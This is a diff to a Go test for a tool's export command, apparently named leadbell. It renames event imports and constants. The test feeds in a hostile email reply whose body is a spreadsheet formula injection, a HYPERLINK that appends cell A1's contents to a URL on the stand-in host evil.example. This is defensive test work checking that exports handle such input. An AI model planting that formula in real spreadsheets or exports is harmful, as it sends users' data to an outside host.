@@ -10,7 +10,7 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/leadbell/leadbell/app/smartlead"
+	"github.com/leadbell/leadbell/event"
 )
 
 // TestExport runs leadbell export while serve holds the store (the export
@@ -23,14 +23,14 @@ func TestExport(t *testing.T) {
 
 	// Replies: an ordinary one, one whose text is a spreadsheet formula,
 	// and one full of markup; and some opens and a click beside them.
-	emit(t, sim, gen.Event(smartlead.EventReplied))
-	formula := gen.Event(smartlead.EventReplied)
+	emit(t, sim, gen.Event(event.Replied))
+	formula := gen.Event(event.Replied)
 	formula.Body, formula.BodyHTML = `=HYPERLINK("https://evil.example/?d="&A1,"Open")`, ""
 	emit(t, sim, formula)
 	if code := deliverFile(t, p.status().WebhookURL, "hostile_reply.json"); code != 200 {
 		t.Fatalf("delivering the hostile reply: %d, want 200", code)
 	}
-	for _, typ := range []smartlead.EventType{smartlead.EventOpened, smartlead.EventOpened, smartlead.EventClicked} {
+	for _, typ := range []event.Type{event.Opened, event.Opened, event.Clicked} {
 		emit(t, sim, gen.Event(typ))
 	}
 	var replies, all pageJSON
